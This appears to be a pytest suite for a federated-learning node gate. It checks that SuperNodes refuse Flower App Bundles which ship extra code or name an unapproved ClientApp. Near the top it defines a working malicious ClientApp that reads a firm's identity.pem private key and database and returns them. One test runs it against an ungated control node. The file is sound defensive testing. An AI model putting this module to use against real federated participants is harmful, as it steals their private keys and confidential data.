"""Attack: the SuperLink operator ships its own code in the FAB; a node runs only its installed ClientApp.

The aggregator writes the FAB ``flwr run`` sends. These tests play an aggregator that ships (a) a
FAB with an extra module that reads each firm's ``identity.pem`` and ``node.db`` and sends them
back, (b) a FAB naming the plaintext-sum ClientApp, and then (c) the approved FAB, on a real TLS
SuperLink with authenticated SuperNodes started by :class:`pcf.deploy.Deployment` (``pcf node
supernode``: :mod:`node.clientapp_runner`). A control SuperNode started without the gate shows the
module of (a) does exfiltrate where nothing checks it. The fast tests check the gate's decision.
"""

from __future__ import annotations

import hashlib
import io
import json
import subprocess
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from flwr.cli.build import build_fab_from_disk
from pydantic import SecretStr

from aggregator import flower_runner
from aggregator.flower_runner import FlowerRunFailed, FlowerSecAggRunner
from aggregator.rounds import RosterEntry, StageRun
from aggregator.settings import AggregatorSettings
from keys.identity import Ed25519PrivateKey, generate_identity
from node import rounds as node_rounds
from node.clientapp_runner import FAB_REFUSED, approve_fab, approved_fabs, check_fab, supernode_command
from node.service import import_paths
from node.store import NodeStore, OutboxRow
from pcf.deploy import BIN, Deployment, NodeHandle
from pcf.flower_app import read_records
from pcf.samples import background_files, firm_files, sample_spec
from protocols.disclosure import Stage, screen_layout
from protocols.fab import APPROVED_CLIENTAPP, build_fab, fab_hash, fab_pyproject
from protocols.roster import sign_roster
from protocols.spec import RoundSpec, sign_spec, spec_hash

# Flower 1.41's FAB builder uses a pathspec pattern class pathspec has deprecated.
pytestmark = pytest.mark.filterwarnings("ignore:GitWildMatchPattern:DeprecationWarning")

EVIL_MODULE = '''\
"""Shipped by the aggregator: reads the firm's key and database and sends them back."""
import hashlib
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

client_app = ClientApp()


@client_app.query("secagg")
def _steal(message: Message, context: Context) -> Message:
    home = Path(str(context.node_config["pcf-home"]))
    (home / "EXFILTRATED").write_text("the aggregator's module ran here")
    db = (home / "node.db").read_bytes()
    loot = {"identity": (home / "identity.pem").read_bytes(), "db-head": db[:4096],
            "db-sha256": hashlib.sha256(db).hexdigest()}
    return Message(RecordDict({"loot": ConfigRecord(loot)}), reply_to=message)
'''


_write_fab_project = flower_runner.write_fab_project


def evil_project(directory: Path, *, serverapp: str = flower_runner.SERVER_APP,
                 clientapp: str = "evil:client_app") -> Path:
    """The aggregator's project: the round's pyproject naming its own ClientApp, plus its module."""
    directory = _write_fab_project(directory, serverapp=serverapp, clientapp=clientapp)
    (directory / "evil.py").write_text(EVIL_MODULE)
    return directory


# ------------------------------------------------------------------------------- the gate, fast


def test_the_fab_the_aggregator_writes_is_the_one_the_node_builds(tmp_path: Path) -> None:
    fab = build_fab_from_disk(flower_runner.write_fab_project(tmp_path / "app"))

    verdict = check_fab(fab)

    assert verdict.accepted and verdict.fab_hash == fab_hash(build_fab()), verdict.reason


def test_a_fab_carrying_a_module_is_refused_even_when_it_names_the_approved_clientapp(tmp_path: Path) -> None:
    fab = build_fab_from_disk(evil_project(tmp_path / "app", clientapp=APPROVED_CLIENTAPP))

    verdict = check_fab(fab, approved={fab_hash(fab)})  # approving its hash does not let code in

    assert not verdict.accepted
    assert "carries files ['evil.py']" in verdict.reason and "never code" in verdict.reason


@pytest.mark.parametrize("clientapp", ["tests.plain_apps:store_plain_client_app", "pcf.flower_app:client_app",
                                       "protocols.flower_apps:secagg_client_app"])
def test_a_fab_naming_any_other_clientapp_is_refused(tmp_path: Path, clientapp: str) -> None:
    fab = build_fab_from_disk(flower_runner.write_fab_project(tmp_path / "app", clientapp=clientapp))

    verdict = check_fab(fab, approved={fab_hash(fab)})

    assert not verdict.accepted and f"names the ClientApp {clientapp!r}" in verdict.reason


def test_any_serverapp_is_accepted_since_it_is_the_servers_own_code(tmp_path: Path) -> None:
    fab = build_fab_from_disk(flower_runner.write_fab_project(tmp_path / "app", serverapp="attack.server:app"))

    assert check_fab(fab).accepted


def test_a_rewritten_project_runs_only_once_the_firm_approved_its_hash(tmp_path: Path) -> None:
    # Prepare: a release whose project file differs (a new run-config default), the firm's store
    app = tmp_path / "app"
    app.mkdir()
    (app / "pyproject.toml").write_text(fab_pyproject().replace('stage-timeout = 60.0', 'stage-timeout = 90.0'))
    fab = build_fab_from_disk(app)
    store = NodeStore(f"sqlite:///{tmp_path / 'node.db'}")

    # Execute
    before = check_fab(fab, approved_fabs(store))
    approve_fab(store, fab_hash(fab))
    after = check_fab(fab, approved_fabs(store))
    store.close()

    # Assert
    assert not before.accepted and "has not approved its hash" in before.reason
    assert after.accepted


def test_a_corrupt_fab_is_refused() -> None:
    verdict = check_fab(b"PK\x03\x04 not a zip")
    assert not verdict.accepted and "not a readable Flower App Bundle" in verdict.reason


def test_the_supernode_always_runs_with_process_isolation_on_loopback(tmp_path: Path) -> None:
    command, address = supernode_command(["--superlink", "x:9092", "--port", "9123"], tmp_path)

    assert command[-2:] == ["--isolation", "process"] and address == "127.0.0.1:9123"
    assert f'pcf-home="{tmp_path}"' in command
    with pytest.raises(ValueError, match="--isolation"):
        supernode_command(["--isolation", "subprocess"], tmp_path)
    with pytest.raises(ValueError, match="loopback"):
        supernode_command(["--host", "0.0.0.0"], tmp_path)
    for abbreviated in (["--hos", "0.0.0.0"], ["--ho=0.0.0.0"], ["--iso", "subprocess"]):
        with pytest.raises(ValueError, match="in full"):
            supernode_command(abbreviated, tmp_path)


# ---------------------------------------------------------------------- the attack, deployed


def _register(d: Deployment, node: NodeHandle) -> int:
    out = subprocess.run([str(BIN / "flwr"), "supernode", "register", str(node.supernode_public), "--format", "json"],
                         env=d.base_env(), capture_output=True, text=True, timeout=60, check=False)
    assert out.returncode == 0, out.stdout + out.stderr
    return int(json.loads(out.stdout[out.stdout.index("{"):])["node-id"])


def _consent(node: NodeHandle, firm_file: Path, spec: RoundSpec, key: Ed25519PrivateKey, roster: dict[str, str]) -> None:
    """The node's store: data, the aggregator's key, the signed invitation and the firm's consent."""
    from keys.identity import public_key_b64

    store = NodeStore(node.db_url)
    try:
        import_paths(store, [*background_files(), firm_file])
        store.set_setting(node_rounds.AGGREGATOR_KEY_SETTING, public_key_b64(key))
        node_rounds.receive_invitation(store, sign_spec(spec, key), sign_roster(key, spec.round_id, spec_hash(spec), roster))
        uuid = next(p.uuid for p in store.bundle().processes.values() if p.annual_production)
        node_rounds.approve(store, spec.round_id, uuid, confirm_zeros=True, approved_by="test")
    finally:
        store.close()


def _outbox(node: NodeHandle) -> list[OutboxRow]:
    store = NodeStore(node.db_url)
    try:
        return node_rounds.outbox(store)
    finally:
        store.close()


def _superlink_bytes(root: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted((root / "superlink").glob("state.db*")) if p.is_file())


@pytest.fixture
def deployment(tmp_path: Path) -> Iterator[Deployment]:
    with Deployment(tmp_path / "deploy") as d:
        yield d


@pytest.mark.slow
def test_a_fab_shipping_code_or_a_plaintext_clientapp_is_refused_and_the_approved_fab_runs(
    deployment: Deployment, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Prepare: TLS SuperLink with SuperNode auth; three gated nodes that consented to the round,
    # and a control SuperNode started without the gate
    d = deployment
    d.start_superlink()
    key = generate_identity()
    firms = [d.add_node(f"firm{i}") for i in range(3)]
    control = d.add_node("control")
    ids = {n.name: _register(d, n) for n in [*firms, control]}
    spec = sample_spec("aluminium", n_firms=3, round_id="fab-attack-2024")
    roster = {str(ids[n.name]): n.identity_public for n in firms}
    for node, firm_file in zip(firms, firm_files("aluminium"), strict=False):
        _consent(node, firm_file, spec, key, roster)
        d.start_supernode(node)
    (control.home / "node.db").write_bytes(b"SQLite format 3\x00 the control firm's database")
    d.start_supernode(control, approved_code_only=False)
    settings = AggregatorSettings(
        environment="development", home=tmp_path / "aggregator",
        admin_token=SecretStr("fab-attack-admin-token-0123456789"),
        pact_client_secret=SecretStr("fab-attack-pact-secret-0123456789"),
        superlink_address=f"{d.superlink_address_host}:{d.superlink_port}",
        superlink_root_certificates=d.tls_dir / "ca.crt", flwr_home=d.flwr_home,
        flower_stage_timeout_seconds=60, flower_connect_timeout_seconds=60,
    )  # fmt: skip
    entries = [RosterEntry("", n.identity_public, "", str(ids[n.name])) for n in firms]
    everyone = [*entries, RosterEntry("", control.identity_public, "", str(ids[control.name]))]
    records = tmp_path / "records"
    screen = StageRun(Stage.SCREEN, len(screen_layout(spec)), None)

    # Execute (a): the aggregator's runner ships a FAB with its own module, to every node
    with monkeypatch.context() as m:
        m.setattr(flower_runner, "write_fab_project", lambda directory, **_: evil_project(directory))
        with pytest.raises(FlowerRunFailed):
            FlowerSecAggRunner(settings, record_path=records / "evil.bin")(spec, everyone, screen)
    evil_received = b"\n".join(read_records(records / "evil.bin"))
    evil_link = _superlink_bytes(d.root)

    # Execute (b): a FAB naming the plaintext-sum ClientApp (and its ServerApp)
    plain = FlowerSecAggRunner(settings, serverapp="tests.plain_apps:plain_server_app",
                               clientapp="tests.plain_apps:store_plain_client_app", record_path=records / "plain.bin")
    plain_n = len(plain(spec, entries, screen).contributors)
    plain.end(spec)  # one stage per run here
    plain_received = read_records(records / "plain.bin")

    # Execute (c): the approved FAB
    approved = FlowerSecAggRunner(settings, record_path=records / "approved.bin")
    approved_sum = approved(spec, entries, screen)
    approved.end(spec)
    summed, n = list(approved_sum.summed), len(approved_sum.contributors)
    approved_received = read_records(records / "approved.bin")

    # Assert (a): refused by every gated node, the module never ran there, nothing of theirs left
    for node in firms:
        assert not (node.home / "EXFILTRATED").exists(), f"the aggregator's module ran on {node.name}"
        secret, db = (node.home / "identity.pem").read_bytes(), (node.home / "node.db").read_bytes()
        for blob, where in ((evil_received, "ServerApp recording"), (evil_link, "SuperLink database")):
            assert secret not in blob and secret.splitlines()[1] not in blob, f"{node.name}'s key in the {where}"
            assert db[:4096] not in blob, f"{node.name}'s database in the {where}"
        assert "FAB" in d.log(f"supernode-{node.name}") and "refused" in d.log(f"supernode-{node.name}")
    assert evil_received.count(b"refused: it carries files ['evil.py']") == len(firms)
    # ... while the SuperNode without the gate ran it and sent its key back: the attack is real
    assert (control.home / "EXFILTRATED").exists()
    assert (control.home / "identity.pem").read_bytes() in evil_received

    # Assert (b): refused; no vector in the clear, no consent spent
    assert plain_n == 0 and len(plain_received) == len(firms)
    assert all(b"refused: it names the ClientApp 'tests.plain_apps:store_plain_client_app'" in r for r in plain_received)

    # Assert (c): the round ran; every reply the ServerApp received is in its sender's outbox
    assert n == len(firms) and len(summed) > 0
    outboxes = {node.name: _outbox(node) for node in firms}
    sent = {row.sha256 for rows in outboxes.values() for row in rows}
    refusals = [r for r in read_records(records / "evil.bin") if r.startswith(b"error ")]  # the gated nodes' replies
    received = [*refusals, *plain_received, *approved_received]
    missing = [blob[:80] for blob in received if hashlib.sha256(blob).hexdigest() not in sent]
    assert missing == [] and len(approved_received) >= 4 * len(firms), missing
    for rows in outboxes.values():
        stages = [row.stage for row in rows]
        assert stages.count(FAB_REFUSED) >= 2 and "plainsum:vector" not in stages
        assert {f"secagg:screen:{m}" for m in ("advertise_keys", "share_keys", "masked_input", "unmask")} <= set(stages)


def test_the_refusal_names_the_fab_hash_the_firm_can_compare(tmp_path: Path) -> None:
    fab = build_fab_from_disk(evil_project(tmp_path / "app"))

    verdict = check_fab(fab)

    names = zipfile.ZipFile(io.BytesIO(fab)).namelist()
    assert "evil.py" in names and verdict.reason.startswith(f"FAB {fab_hash(fab)[:16]} refused")


def test_every_request_the_nodes_http_client_sends_is_in_its_outbox(tmp_path: Path) -> None:
    # Prepare: a node whose HTTP client talks to a stand-in aggregator that keeps what it received
    from keys.identity import public_key_b64, save_private_key, sign
    from node.client import AggregatorClient
    from protocols.canonical import Kind, encode

    aggregator, firm = generate_identity(), generate_identity()
    save_private_key(firm, tmp_path / "identity.pem")
    store = NodeStore(f"sqlite:///{tmp_path / 'node.db'}")
    store.set_setting(node_rounds.AGGREGATOR_KEY_SETTING, public_key_b64(aggregator))
    received: list[bytes] = []

    def server(request: httpx.Request) -> httpx.Response:
        line = f"{request.method} {request.url.raw_path.decode()}\n".encode()
        received.append(line + "".join(f"{k}: {v}\n" for k, v in request.headers.items()).encode() + request.read())
        if request.url.path == "/api/v1/aggregator":
            challenge = encode(Kind.AGGREGATOR_CHALLENGE, {"challenge": request.url.params["challenge"]})
            return httpx.Response(200, json={"public_key": public_key_b64(aggregator),
                                             "challenge_signature": sign(aggregator, challenge)})
        return httpx.Response(200, json=[] if request.url.path == "/api/v1/rounds" else {"id": 1})

    client = AggregatorClient(store, tmp_path, "https://aggregator.test",
                              http=httpx.Client(transport=httpx.MockTransport(server)))

    # Execute: signed reads, and a request made on the client directly (no call site records it)
    client.fetch_invitations()
    client.me()
    client.http.post("https://aggregator.test/api/v1/anything", content=b"not through _signed")

    # Assert: each request that reached the server is one outbox entry of exactly its bytes
    rows = node_rounds.outbox(store)
    store.close()
    assert len(received) == 4 and sorted(r.sha256 for r in rows) == sorted(hashlib.sha256(b).hexdigest() for b in received)
    assert [r.stage for r in rows][-1] == "POST /api/v1/anything"
